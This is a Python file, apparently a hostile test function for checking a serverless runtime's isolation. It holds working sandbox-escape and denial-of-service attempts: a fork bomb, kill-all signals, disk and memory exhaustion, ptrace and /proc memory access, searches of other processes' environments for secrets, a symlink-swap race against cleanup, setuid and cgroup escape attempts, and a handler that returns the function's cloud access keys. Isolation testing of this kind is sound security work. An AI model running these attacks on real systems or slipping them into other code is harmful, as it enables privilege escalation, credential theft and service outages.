"""A function that tries to break out. Each attempt answers what it reached and which error stopped it. Standard library only."""
import ctypes
import errno
import json
import mmap
import os
import resource
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request

direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
libc = ctypes.CDLL(None, use_errno=True)


def handler(event, context):
    told = json.loads(event)
    keys = context.credentials
    answer = attempts[told["attempt"]](told)
    return {
        "found": answer,
        "credentials": {"accessKeyId": keys.access_key_id, "accessKeySecret": keys.access_key_secret, "securityToken": keys.security_token},
    }


def named(error):
    number = getattr(error, "errno", None)
    return errno.errorcode.get(number, type(error).__name__) if number else type(error).__name__


def tried(action, *arguments):
    """What an action gave, or the name of the error that stopped it."""
    try:
        return {"reached": str(action(*arguments))[:300]}
    except BaseException as error:
        return {"stopped": named(error)}


def read(path):
    with open(path, "rb") as file:
        return file.read(4096)


def write(path):
    with open(path, "ab") as file:
        file.write(b"#")
    return "written"


def look(told):
    """Reads files and lists folders."""
    return {path: tried(os.listdir if told.get("folders") else read, path) for path in told["paths"]}


def change(told):
    """Writes into files, makes files in folders, takes them away."""
    found = {}
    for path in told["paths"]:
        found["append " + path] = tried(write, path)
        found["make " + path] = tried(write, os.path.join(os.path.dirname(path), "made-by-hostile"))
        found["remove " + path] = tried(os.unlink, path)
        found["mode " + path] = tried(os.chmod, path, 0o777)
        found["rename " + path] = tried(os.rename, path, path + ".gone")
    return found


def environments(told):
    """Whose environment can be read, and whether the secret is in any."""
    own, foreign, secrets = 0, [], []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            mine = os.stat("/proc/" + name).st_uid == os.getuid()
            text = read("/proc/%s/environ" % name)
        except OSError:
            continue
        if mine:
            own += 1
        else:
            foreign.append(int(name))
        for path in ("environ", "cmdline"):
            try:
                if told["secret"].encode() in open("/proc/%s/%s" % (name, path), "rb").read():
                    secrets.append(name + "/" + path)
            except OSError:
                continue
    return {"own": own, "foreign": foreign, "secrets": secrets, "server": tried(read, "/proc/%d/environ" % told["pid"])}


def visible(told):
    return {"pids": [int(name) for name in os.listdir("/proc") if name.isdigit()]}


def home(told):
    """Where this instance keeps its files, with one in it."""
    path = os.path.join(os.environ["TMPDIR"], "secret-of-this-instance")
    with open(path, "w") as file:
        file.write("a secret of this instance")
    return {"tmp": os.environ["TMPDIR"], "file": path, "code": os.environ["FC_FUNC_CODE_PATH"], "pid": os.getpid(), "uid": os.getuid()}


def fork_bomb(told):
    while True:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
        except OSError:
            pass


def daemon(told):
    """A process that left its group, its session, its parent and its environment."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setsid() if os.getpid() != os.getsid(0) else None
            program = "import signal, time\nfor number in range(1, 32):\n  try: signal.signal(number, signal.SIG_IGN)\n  except (OSError, ValueError): pass\ntime.sleep(600)"
            os.execve(sys.executable, [sys.executable, "-c", program, told["name"]], {})
        os._exit(0)
    if told.get("return"):
        time.sleep(1)
        return "left behind"
    if told.get("exit"):
        time.sleep(1)
        os._exit(0)
    time.sleep(600)


def fill_disk(told):
    """Writes until something stops it, into files with names or without."""
    folders = [os.environ["TMPDIR"], "/tmp", "/var/tmp", "/dev/shm"]
    block = os.urandom(1 << 20)
    held, written, stopped = [], 0, {}
    while written < told["bytes"]:
        for folder in list(folders):
            try:
                path = os.path.join(folder, "fill-%d" % len(held))
                file = os.open(path, os.O_CREAT | os.O_RDWR)
                held.append(file)
                if told.get("unnamed"):
                    os.unlink(path)
                for _ in range(16):
                    written += os.write(file, block)
                if told.get("mapped"):
                    held.append(mmap.mmap(file, 16 << 20))
                    os.close(file)
            except OSError as error:
                stopped[folder] = named(error)
                folders.remove(folder)
        if not folders:
            break
    time.sleep(told.get("wait", 5))
    return {"written": written, "stopped": stopped}


def fill_folders(told):
    """Files without a byte."""
    count = 0
    while count < told["files"]:
        open(os.path.join(os.environ["TMPDIR"], "empty-%d" % count), "w").close()
        count += 1
    time.sleep(5)
    return count


def fill_memory(told):
    """In one process, or in many that each stay below what one may have."""
    if told["processes"] == 1:
        return len(bytearray(told["bytes"]))
    children = []
    for _ in range(told["processes"]):
        pid = os.fork()
        if pid == 0:
            held = bytearray(told["bytes"])
            for at in range(0, len(held), 4096):
                held[at] = 1
            time.sleep(3)
            os._exit(0)
        children.append(pid)
    ended = [os.waitpid(pid, 0)[1] for pid in children]
    return {"ended": ended}


def listen(told):
    found = {}
    for port in told["ports"]:
        for address in ("127.0.0.1", "0.0.0.0"):
            for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
                sock = socket.socket()
                if option is not None:
                    sock.setsockopt(socket.SOL_SOCKET, option, 1)
                found["%s:%d %s" % (address, port, option)] = tried(lambda: (sock.bind((address, port)), sock.listen(1)))
                sock.close()
    return found


def shoot(told):
    found = {}
    for name, number in (("KILL", signal.SIGKILL), ("STOP", signal.SIGSTOP), ("TERM", signal.SIGTERM), ("probe", 0)):
        for pid in told["pids"]:
            found["%s %d" % (name, pid)] = tried(os.kill, pid, number)
            found["%s group %d" % (name, pid)] = tried(os.killpg, pid, number)
    return found


def shoot_all(told):
    os.kill(-1, signal.SIGKILL)
    time.sleep(5)
    return "alive"


def stop_fork_server(told):
    os.kill(os.getppid(), signal.SIGSTOP)
    time.sleep(600)


def trace(told):
    found = {}
    for pid in told["pids"]:
        libc.ptrace.restype = ctypes.c_long
        for name, request in (("attach", 16), ("seize", 0x4206)):
            code = libc.ptrace(request, pid, None, None)
            found["%s %d" % (name, pid)] = {"reached": "traced"} if code == 0 else {"stopped": errno.errorcode.get(ctypes.get_errno(), "?")}
        for path in ("mem", "maps", "fd", "cwd", "root", "environ", "stack", "auxv", "map_files"):
            here = "/proc/%d/%s" % (pid, path)
            found[here] = tried(os.listdir if path in ("fd", "map_files") else os.readlink if path in ("cwd", "root") else read, here)
        found["write %d" % pid] = tried(lambda: os.close(os.open("/proc/%d/mem" % pid, os.O_RDWR)))
        found["oom %d" % pid] = tried(lambda: open("/proc/%d/oom_score_adj" % pid, "w").write("1000"))
        found["limits %d" % pid] = tried(lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)))
    return found


def request(told):
    """One HTTP request of the test's making, sent from inside."""
    call = urllib.request.Request(told["url"], told.get("body", "").encode() or None, told.get("headers", {}), method=told["method"])
    try:
        with direct.open(call, timeout=20) as response:
            return {"status": response.status, "body": response.read(2000).decode(errors="replace")}
    except urllib.error.HTTPError as error:
        return {"status": error.code, "body": error.read(2000).decode(errors="replace")}


def impersonate(told):
    """Speaks to the socket of the instances as somebody else."""
    found = {}
    for name, greeting in told["greetings"].items():
        sock = socket.socket(socket.AF_UNIX)
        sock.settimeout(8)
        try:
            sock.connect(told["socket"])
            sock.sendall(greeting.encode())
            heard = sock.recv(1024)
            found[name] = {"reached": repr(heard)} if heard else {"stopped": "closed"}
        except OSError as error:
            found[name] = {"stopped": named(error)}
        finally:
            sock.close()
    found["remove the socket"] = tried(os.unlink, told["socket"])
    found["sniff"] = tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))
    return found


def plant_links(told):
    """Leaves links where the server will clean up."""
    found = {}
    for number, target in enumerate(told["targets"]):
        found["symbolic " + target] = tried(os.symlink, target, os.path.join(os.environ["TMPDIR"], "link-%d" % number))
        found["hard " + target] = tried(os.link, target, os.path.join(os.environ["TMPDIR"], "hard-%d" % number))
    closed = os.path.join(os.environ["TMPDIR"], "closed", "deep")
    os.makedirs(closed)
    os.chmod(os.path.dirname(closed), 0)
    return found


def swap(told):
    """While another instance's folder is cleaned up, its folders become links and folders again, each time at a stroke."""
    end = time.monotonic() + told["seconds"]
    here, exchange = -100, 2

    def work(first):
        names = [(os.path.join(told["folder"], "d%d" % at).encode(), os.path.join(told["folder"], "l%d" % at).encode()) for at in range(first, told["folders"], 2)]
        for folder, link in names:
            try:
                os.makedirs(folder, exist_ok=True)
                os.symlink(told["target"], link)
            except OSError:
                continue
        while time.monotonic() < end:
            for folder, link in names:
                libc.renameat2(here, folder, here, link, exchange)

    threads = [threading.Thread(target=work, args=(at,)) for at in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return "swapped"


def grow(told):
    """Many folders to clean up, and then the end of this instance."""
    for at in range(told["folders"]):
        for deep in range(20):
            try:
                os.makedirs(os.path.join(os.environ["TMPDIR"], "d%d" % at, "x%d" % deep), exist_ok=True)
            except OSError:
                continue
    time.sleep(1)
    os._exit(0)


def privileges(told):
    """Programs with the set-user-id bit: one of the code package, one of its own making, and the system's."""
    found = {}
    code = os.environ["FC_FUNC_CODE_PATH"]
    own = os.path.join(os.environ["TMPDIR"], "own")
    subprocess.run(["cp", "/usr/bin/id", own], check=True)
    os.chmod(own, 0o6755)
    for name, words in {"package": [code + "/id", "-u"], "own": [own, "-u"], "su": ["su", "-c", "id -u"], "sudo": ["sudo", "-n", "id", "-u"]}.items():
        try:
            found[name] = subprocess.run(words, capture_output=True, text=True, timeout=10, stdin=subprocess.DEVNULL).stdout.strip()
        except (OSError, subprocess.TimeoutExpired) as error:
            found[name] = named(error)
    status = read("/proc/self/status").decode()
    found["mode"] = oct(os.stat(code + "/id").st_mode & 0o7777)
    found["new privileges"] = "NoNewPrivs:\t1" in status
    found["capabilities"] = [line.split()[1] for line in status.splitlines() if line.startswith(("CapPrm", "CapEff", "CapAmb"))]
    found["setuid"] = tried(os.setuid, 0)
    found["mount"] = {"stopped": "EPERM"} if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) else {"reached": "mounted"}
    found["groups"] = os.getgroups()
    return found


def join_groups(told):
    """Leaves its control group, or lifts its limits."""
    found = {}
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        for name in ("cgroup.procs", "tasks", "memory.limit_in_bytes", "memory.max", "pids.max"):
            if name in files:
                try:
                    with open(os.path.join(folder, name), "w") as file:
                        file.write("0" if name in ("cgroup.procs", "tasks") else "99999999999")
                    found[os.path.join(folder, name)] = "written"
                except OSError:
                    pass
    return found


def preloaded(told):
    """Files that the loader wrote because of a variable of the function."""
    folder = told["folder"]
    return {name: os.stat(os.path.join(folder, name)).st_uid for name in os.listdir(folder)}


attempts = {name: value for name, value in globals().items() if callable(value) and name not in ("handler", "named", "tried", "read", "write")}
